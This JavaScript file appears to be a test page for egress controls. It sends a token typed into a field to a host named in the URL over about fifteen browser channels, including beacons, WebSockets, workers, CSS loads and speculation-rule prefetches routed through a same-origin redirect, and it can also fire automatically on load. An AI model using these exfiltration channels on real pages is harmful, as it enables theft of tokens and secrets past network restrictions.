// A page on an allowed host that sends what was typed into #token to another host
// (?to=http://HOST:PORT) through the channel named by ?via=. Clicking Continue sends it.
// The worker and service-worker channels run their code in exfil-worker.js.
const params = new URLSearchParams(location.search);
const to = params.get("to");
const via = params.get("via");

function leak(token) {
  const url = (path) => to + path + "?via=" + via + "&token=" + encodeURIComponent(token);
  const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
  switch (via) {
    case "image":
      new Image().src = url("/leak.png");
      break;
    case "fetch-get":
      fetch(url("/leak"), { mode: "no-cors" });
      break;
    case "fetch-post":
      fetch(url("/leak"), { method: "POST", mode: "no-cors", body: token });
      break;
    case "beacon":
      navigator.sendBeacon(url("/leak"), token);
      break;
    case "websocket":
      new WebSocket(url("/leak").replace(/^http/, "ws"));
      break;
    case "eventsource":
      new EventSource(url("/leak"));
      break;
    case "css-background":
      add(`<div style="width:50px;height:50px;background:url('${url("/leak.png")}')"></div>`);
      break;
    case "script": {
      const script = document.createElement("script");
      script.src = url("/leak.js");
      document.body.append(script);
      break;
    }
    case "stylesheet":
      add(`<link rel="stylesheet" href="${url("/leak.css")}">`);
      break;
    case "prefetch":
      add(`<link rel="prefetch" href="${url("/leak")}">`);
      break;
    case "prerender":
    case "speculation-prefetch": {
      // A same-origin URL, which redirects to the other host.
      const hop = "/__redirect?to=" + encodeURIComponent(url("/leak"));
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      const kind = via === "prerender" ? "prerender" : "prefetch";
      rules.textContent = JSON.stringify({ [kind]: [{ source: "list", urls: [hop] }] });
      document.head.append(rules);
      break;
    }
    case "worker":
      new Worker("exfil-worker.js?" + new URLSearchParams({ to: url("/leak") }));
      break;
    case "worker-websocket":
      new Worker("exfil-worker.js?" + new URLSearchParams({ to: url("/leak"), ws: 1 }));
      break;
    case "service-worker":
      navigator.serviceWorker.register("exfil-worker.js?" + new URLSearchParams({ to: url("/leak") }));
      break;
  }
}

document.querySelector("#send").addEventListener("click", () => {
  leak(document.querySelector("#token").value);
});
// ?auto=N: send N times as the page loads, without waiting for a click.
for (let i = 0; i < Number(params.get("auto") || 0); i++) leak("auto-" + i);
